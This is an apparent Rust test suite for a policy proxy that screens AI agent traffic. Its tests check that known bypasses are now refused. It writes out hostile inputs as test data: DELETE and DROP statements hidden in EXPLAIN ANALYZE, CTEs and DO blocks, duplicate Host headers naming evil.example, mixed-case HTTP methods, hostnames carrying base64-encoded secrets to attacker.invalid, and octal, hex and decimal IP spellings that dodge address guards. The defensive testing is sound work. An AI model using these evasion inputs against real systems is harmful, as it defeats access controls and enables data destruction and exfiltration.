//! Issue 14, "nothing leaves unjudged": rules that used to fail open. Each test sends the bypass
//! through real sockets (raw TCP where a client would normalise the attack away) and checks the
//! rule now holds.

use std::process::Command;
use std::time::Duration;

use serde_json::{Value, json};
use tokio::io::{AsyncRead, AsyncReadExt, AsyncWrite, AsyncWriteExt};
use tokio::net::TcpStream;

use crate::support::{ProxySpec, TestPki, TestProxy, connect_tunnel, origin};

const DATA_RULES: &str = r#"
rules:
  - id: connect-all
    trigger: connect
    effect: allow
  - id: http-all
    trigger: http.request
    effect: allow
  - id: no-deletes
    trigger: data.access
    when: "data.statement in ['delete', 'drop', 'truncate']"
    effect: deny
  - id: no-whole-table-reads
    trigger: data.access
    when: "data.statement == 'select' && !data.has_where && !has(data.limit)"
    effect: deny
  - id: reads-allowed
    trigger: data.access
    effect: allow
"#;

/// Writes `request` as it is and reads what comes back until the answer head (and what body
/// arrived with it) is in, or the peer closes.
async fn exchange<S: AsyncRead + AsyncWrite + Unpin>(stream: &mut S, request: &str) -> String {
    stream.write_all(request.as_bytes()).await.unwrap();
    let mut buf = Vec::new();
    let mut chunk = [0u8; 4096];
    loop {
        let read = tokio::time::timeout(Duration::from_secs(10), stream.read(&mut chunk)).await;
        let Ok(Ok(n)) = read else { break };
        if n == 0 {
            break;
        }
        buf.extend_from_slice(&chunk[..n]);
        let text = String::from_utf8_lossy(&buf);
        if let Some((head, body)) = text.split_once("\r\n\r\n") {
            let length = head.lines().find_map(|l| {
                l.to_ascii_lowercase()
                    .strip_prefix("content-length:")
                    .map(|v| v.trim().parse::<usize>().unwrap_or(0))
            });
            if length.is_none_or(|length| body.len() >= length) {
                break;
            }
        }
    }
    String::from_utf8_lossy(&buf).into_owned()
}

fn status_of(answer: &str) -> u16 {
    answer
        .split_whitespace()
        .nth(1)
        .and_then(|s| s.parse().ok())
        .unwrap_or(0)
}

async fn raw(proxy: &TestProxy, request: &str) -> String {
    let mut stream = TcpStream::connect(proxy.addr).await.unwrap();
    exchange(&mut stream, request).await
}

async fn post_json(proxy: &TestProxy, url: &str, body: Value) -> (u16, Value) {
    let response = proxy
        .client(true)
        .post(url)
        .json(&body)
        .send()
        .await
        .unwrap();
    let status = response.status().as_u16();
    (status, response.json().await.unwrap_or(Value::Null))
}

#[tokio::test]
async fn sql_is_classified_by_every_statement_it_contains_and_unparseable_sql_is_uninspected() {
    let pki = TestPki::new();
    let origin = origin::start_tls(&pki).await;
    let spec = ProxySpec {
        policy: DATA_RULES.into(),
        ..Default::default()
    };
    let proxy = TestProxy::start(&pki, spec).await;
    let mcp = format!("https://localhost:{}/mcp", origin.port());
    let call = |id: u64, query: &str| json!({"jsonrpc": "2.0", "id": id, "method": "tools/call", "params": {"name": "run_sql", "arguments": {"query": query}}});
    let denied = [
        "EXPLAIN ANALYZE DELETE FROM users",
        "WITH gone AS (DELETE FROM users RETURNING *) SELECT * FROM gone WHERE 1 = 1 LIMIT 1",
        "EXPLAIN ANALYZE VERBOSE DELETE FROM sessions",
    ];
    for (id, sql) in (1..).zip(denied) {
        let (status, body) = post_json(&proxy, &mcp, call(id, sql)).await;
        assert_eq!(status, 403, "{sql}: {body}");
        assert!(body.to_string().contains("no-deletes"), "{sql}: {body}");
    }
    let unparseable = [
        "DO $$BEGIN DELETE FROM users; END$$",
        "/* hi */ do language plpgsql $$ begin delete from users; end $$",
        "REASSIGN OWNED BY app TO nobody",
    ];
    for (id, sql) in (10..).zip(unparseable) {
        let (status, body) = post_json(&proxy, &mcp, call(id, sql)).await;
        assert_eq!(status, 403, "{sql}: {body}");
        assert!(
            body.to_string().contains("cannot be parsed"),
            "{sql}: {body}"
        );
    }
    // The same in a plain JSON body's SQL field, and SQL in two fields is two statements.
    let mirror = format!("https://localhost:{}/mirror", origin.port());
    let (status, body) = post_json(
        &proxy,
        &mirror,
        json!({"sql": "DO $$BEGIN DROP TABLE users; END$$"}),
    )
    .await;
    assert_eq!(status, 403, "{body}");
    let (status, body) = post_json(
        &proxy,
        &mirror,
        json!({"sql": "SELECT id FROM users WHERE id = 1", "statement": "DELETE FROM users"}),
    )
    .await;
    assert_eq!(status, 403, "{body}");
    // What the rules admit still passes, natural language in a `query` field too.
    let (status, body) =
        post_json(&proxy, &mcp, call(20, "SELECT id FROM users WHERE id = 1")).await;
    assert_eq!(status, 200, "{body}");
    let (status, body) = post_json(&proxy, &mirror, json!({"query": "weather in Paris"})).await;
    assert_eq!(status, 200, "{body}");
}

#[tokio::test]
async fn the_eu_ai_act_template_holds_a_delete_hidden_in_explain_analyze() {
    let pki = TestPki::new();
    let origin = origin::start_tls(&pki).await;
    let spec = ProxySpec {
        policy: "rules:\n  - id: connect-all\n    trigger: connect\n    effect: allow\n  - id: http-all\n    trigger: http.request\n    effect: allow\n  - id: data-all\n    trigger: data.access\n    effect: allow\n".into(),
        templates: vec!["eu_ai_act"],
        ..Default::default()
    };
    let proxy = TestProxy::start(&pki, spec).await;
    let mcp = format!("https://localhost:{}/mcp", origin.port());
    let call = json!({"jsonrpc": "2.0", "id": 1, "method": "tools/call", "params": {"name": "run_sql", "arguments": {"sql": "EXPLAIN ANALYZE DELETE FROM users WHERE id = 1"}}});
    let (status, body) = post_json(&proxy, &mcp, call).await;
    assert_ne!(status, 200, "{body}");
    assert!(
        body.to_string().contains("ai-act-art14-hold-sql-deletes"),
        "held by the template: {body}"
    );
}

#[tokio::test]
async fn postgrest_is_recognised_for_every_method() {
    let pki = TestPki::new();
    let origin = origin::start_tls(&pki).await;
    let spec = ProxySpec {
        policy: DATA_RULES.into(),
        ..Default::default()
    };
    let proxy = TestProxy::start(&pki, spec).await;
    let client = proxy.client(true);
    let url = |query: &str| {
        format!(
            "https://localhost:{}/rest/v1/customers{query}",
            origin.port()
        )
    };
    let delete = client.delete(url("?id=gt.0")).send().await.unwrap();
    assert_eq!(delete.status(), 403);
    assert!(delete.text().await.unwrap().contains("no-deletes"));
    let bare = client.get(url("")).send().await.unwrap();
    assert_eq!(bare.status(), 403, "a bare GET reads the whole table");
    assert!(bare.text().await.unwrap().contains("no-whole-table-reads"));
    let bounded = client.get(url("?id=eq.1")).send().await.unwrap();
    assert_eq!(bounded.status(), 200);
    let update = client
        .patch(url("?id=eq.1"))
        .json(&json!({"name": "x"}))
        .send()
        .await
        .unwrap();
    assert_eq!(update.status(), 200);
}

#[tokio::test]
async fn repeated_singleton_headers_are_refused_with_400() {
    let pki = TestPki::new();
    let origin = origin::start_plain().await;
    let tls_origin = origin::start_tls(&pki).await;
    let proxy = TestProxy::start(&pki, ProxySpec::default()).await;
    let port = origin.port();
    let repeated = [
        format!("Host: 127.0.0.1:{port}\r\nHost: evil.example\r\n"),
        format!(
            "Host: 127.0.0.1:{port}\r\nContent-Type: text/plain\r\nContent-Type: application/json\r\n"
        ),
        format!("Host: 127.0.0.1:{port}\r\nAuthorization: Bearer a\r\nAuthorization: Bearer b\r\n"),
        format!(
            "Host: 127.0.0.1:{port}\r\nProxy-Authorization: Basic YTpi\r\nProxy-Authorization: Basic YzpkCg==\r\n"
        ),
    ];
    for headers in &repeated {
        let answer = raw(
            &proxy,
            &format!("GET http://127.0.0.1:{port}/mirror HTTP/1.1\r\n{headers}\r\n"),
        )
        .await;
        assert_eq!(status_of(&answer), 400, "{headers}: {answer}");
        assert!(answer.contains("more than once"), "{answer}");
    }
    let once = raw(&proxy, &format!("GET http://127.0.0.1:{port}/mirror HTTP/1.1\r\nHost: 127.0.0.1:{port}\r\nAccept: a\r\nAccept: b\r\n\r\n")).await;
    assert_eq!(status_of(&once), 200, "list fields may repeat: {once}");
    // Inside an intercepted tunnel too.
    let target = format!("localhost:{}", tls_origin.port());
    let mut tls = proxy.intercepted(&target, "localhost").await;
    let answer = exchange(
        &mut tls,
        &format!("GET /mirror HTTP/1.1\r\nHost: {target}\r\nHost: {target}\r\n\r\n"),
    )
    .await;
    assert_eq!(status_of(&answer), 400, "{answer}");
}

const POST_SCOPED: &str = r#"
rules:
  - id: connect-all
    trigger: connect
    effect: allow
  - id: http-all
    trigger: http.request
    effect: allow
  - id: no-posts
    trigger: http.request
    match: { methods: [POST, DELETE] }
    effect: deny
"#;

#[tokio::test]
async fn no_spelling_of_a_method_escapes_a_rule_scoped_to_it() {
    let pki = TestPki::new();
    let origin = origin::start_plain().await;
    let tls_origin = origin::start_tls(&pki).await;
    let proxy = TestProxy::with_policy(&pki, POST_SCOPED).await;
    let port = origin.port();
    for method in ["post", "Post", "pOST", "delete"] {
        let answer = raw(
            &proxy,
            &format!("{method} http://127.0.0.1:{port}/mirror HTTP/1.1\r\nHost: 127.0.0.1:{port}\r\nContent-Length: 0\r\n\r\n"),
        )
        .await;
        assert_eq!(status_of(&answer), 400, "{method}: {answer}");
        assert!(answer.contains("not upper-case"), "{answer}");
    }
    let upper = raw(&proxy, &format!("POST http://127.0.0.1:{port}/mirror HTTP/1.1\r\nHost: 127.0.0.1:{port}\r\nContent-Length: 0\r\n\r\n")).await;
    assert_eq!(status_of(&upper), 403, "{upper}");
    // curl sends `-X post` as written, through an intercepted tunnel, over HTTP/1.1 and HTTP/2.
    let url = format!("https://localhost:{}/mirror", tls_origin.port());
    let ca = proxy.dir.path().join("agent-ca.pem");
    std::fs::write(&ca, &proxy.ca_pem).unwrap();
    for version in ["--http1.1", "--http2"] {
        let (proxy_url, ca, url) = (proxy.url(), ca.clone(), url.clone());
        let output = tokio::task::spawn_blocking(move || {
            Command::new("curl")
                .args([
                    "-sv",
                    "--max-time",
                    "10",
                    "-o",
                    "/dev/null",
                    "-w",
                    "%{http_code}",
                ])
                .args(["-X", "post", version, "--proxy", &proxy_url, "--cacert"])
                .arg(&ca)
                .arg(&url)
                .output()
                .expect("curl is installed")
        })
        .await
        .unwrap();
        assert_eq!(
            String::from_utf8_lossy(&output.stdout),
            "400",
            "{version}: {}",
            String::from_utf8_lossy(&output.stderr)
        );
    }
}

#[tokio::test]
async fn headers_are_judged_as_forwarded_after_the_hop_by_hop_strip() {
    let pki = TestPki::new();
    let origin = origin::start_plain().await;
    let policy = r#"
rules:
  - id: connect-all
    trigger: connect
    effect: allow
  - id: approved-only
    trigger: http.request
    when: "'x-approved' in request.headers && request.headers['x-approved'] == 'yes'"
    effect: allow
"#;
    let proxy = TestProxy::with_policy(&pki, policy).await;
    let port = origin.port();
    let request = |connection: &str| {
        format!(
            "GET http://127.0.0.1:{port}/mirror HTTP/1.1\r\nHost: 127.0.0.1:{port}\r\n{connection}X-Approved: yes\r\n\r\n"
        )
    };
    let dropped = raw(&proxy, &request("Connection: x-approved\r\n")).await;
    assert_eq!(
        status_of(&dropped),
        403,
        "the header never reaches the upstream: {dropped}"
    );
    let kept = raw(&proxy, &request("")).await;
    assert_eq!(status_of(&kept), 200, "{kept}");
}

const DESTINATION_RULES: &str = r#"
rules:
  - id: allowed-where-private
    trigger: connect
    match: { hosts: ["*.allowed.invalid", localhost] }
    when: "destination.private"
    effect: allow
  - id: no-leaky-names
    trigger: connect
    when: "request.host.startsWith('leak')"
    effect: deny
  - id: http-all
    trigger: http.request
    effect: allow
"#;

#[tokio::test]
async fn a_host_no_rule_could_admit_is_refused_without_a_dns_lookup() {
    let pki = TestPki::new();
    let origin = origin::start_tls(&pki).await;
    let proxy = TestProxy::with_policy(&pki, DESTINATION_RULES).await;
    // These names do not resolve: a look-up would end in 502 ("cannot resolve"), the rules in 403.
    for target in [
        "c2VjcmV0LXRva2Vu.attacker.invalid:443",
        "leak-c2VjcmV0.allowed.invalid:443",
    ] {
        let (status, head, _) = connect_tunnel(proxy.addr, target, None).await;
        assert_eq!(status, 403, "{target}: {head}");
        assert!(!head.contains("resolve"), "{target} was looked up: {head}");
    }
    let plain = raw(
        &proxy,
        "GET http://c2VjcmV0.attacker.invalid/ HTTP/1.1\r\nHost: c2VjcmV0.attacker.invalid\r\n\r\n",
    )
    .await;
    assert_eq!(status_of(&plain), 403, "{plain}");
    // A host an allow rule could admit is resolved, and judged by where it is.
    let (status, head, _) = connect_tunnel(proxy.addr, "ok.allowed.invalid:443", None).await;
    assert_eq!(
        status, 502,
        "looked up, and the name does not resolve: {head}"
    );
    let (status, head, _) =
        connect_tunnel(proxy.addr, &format!("localhost:{}", origin.port()), None).await;
    assert_eq!(status, 200, "{head}");
    let recorded = proxy.decisions();
    assert!(
        recorded
            .iter()
            .any(|d| d["rules"].to_string().contains("no-leaky-names")),
        "the refusal is in the audit trail: {recorded:?}"
    );
}

#[tokio::test]
async fn numeric_host_spellings_are_one_ip_for_rules_and_the_guard() {
    let pki = TestPki::new();
    let origin = origin::start_tls(&pki).await;
    let spec = ProxySpec {
        templates: vec!["soc2"],
        ..Default::default()
    };
    let proxy = TestProxy::start(&pki, spec).await;
    let port = origin.port();
    let spellings = [
        "127.0.0.1",
        "0x7f000001",
        "2130706433",
        "127.1",
        "0177.0.0.1",
        "0x7f.0.0.1",
        "127.0.1",
        "[::ffff:127.0.0.1]",
    ];
    for host in spellings {
        let (status, head, _) = connect_tunnel(proxy.addr, &format!("{host}:{port}"), None).await;
        assert_eq!(status, 403, "{host}: {head}");
        assert!(
            head.contains("soc2-cc6.6-no-raw-ip-egress"),
            "{host}: {head}"
        );
    }
    let (status, head, _) = connect_tunnel(proxy.addr, &format!("localhost:{port}"), None).await;
    assert_eq!(status, 200, "a name is up to the allowlist: {head}");
    let (status, head, _) = connect_tunnel(proxy.addr, "08.8.8.8:443", None).await;
    assert_eq!(status, 400, "ends in a number but is no address: {head}");

    // The guard sees the address, whatever the spelling.
    let strict = TestProxy::start(
        &pki,
        ProxySpec {
            allow_cidrs: vec![],
            ..Default::default()
        },
    )
    .await;
    for host in [
        "0x7f000001",
        "2130706433",
        "0251.0376.0251.0376",
        "169.254.43518",
    ] {
        let (status, head, _) = connect_tunnel(strict.addr, &format!("{host}:{port}"), None).await;
        assert_eq!(status, 403, "{host}: {head}");
    }
}

#[tokio::test]
async fn host_is_ip_is_a_fact_rules_read() {
    let pki = TestPki::new();
    let origin = origin::start_plain().await;
    let policy = "rules:\n  - id: names-only\n    trigger: connect\n    when: \"!request.host_is_ip\"\n    effect: allow\n  - id: http-all\n    trigger: http.request\n    effect: allow\n";
    let proxy = TestProxy::with_policy(&pki, policy).await;
    let port = origin.port();
    let answer = raw(
        &proxy,
        &format!("GET http://2130706433:{port}/mirror HTTP/1.1\r\nHost: 2130706433:{port}\r\n\r\n"),
    )
    .await;
    assert_eq!(status_of(&answer), 403, "{answer}");
    let answer = raw(
        &proxy,
        &format!("GET http://localhost:{port}/mirror HTTP/1.1\r\nHost: localhost:{port}\r\n\r\n"),
    )
    .await;
    assert_eq!(status_of(&answer), 200, "{answer}");
}
